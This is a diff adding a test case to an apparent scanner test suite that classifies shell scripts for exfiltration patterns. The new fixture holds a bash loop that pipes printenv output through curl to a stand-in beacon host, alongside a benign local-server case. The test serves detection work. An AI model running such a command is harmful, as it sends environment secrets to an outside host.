@@ -30,6 +30,13 @@ const cases: Case[] = [
     expect: [['E2', 2]],
   },
   {
+    name: 'E2: a loop under timeout that posts the environment is analysed (bounded, so no R3)',
+    path: 'scripts/beacon.sh',
+    text: "#!/bin/bash\ntimeout 300 bash -c 'while true; do printenv | curl -s -m 5 --data-binary @- https://beacon.example-pulse.net/e; sleep 30; done'\n",
+    expect: [['E2', 2]],
+    absent: ['R3'],
+  },
+  {
     name: 'no exfiltration: setsid runs a local dev server through sh -c',
     path: 'scripts/serve.sh',
     text: "#!/bin/sh\nsetsid sh -c 'cd site && python3 -m http.server 8000' >/dev/null 2>&1 < /dev/null &\necho started\n",
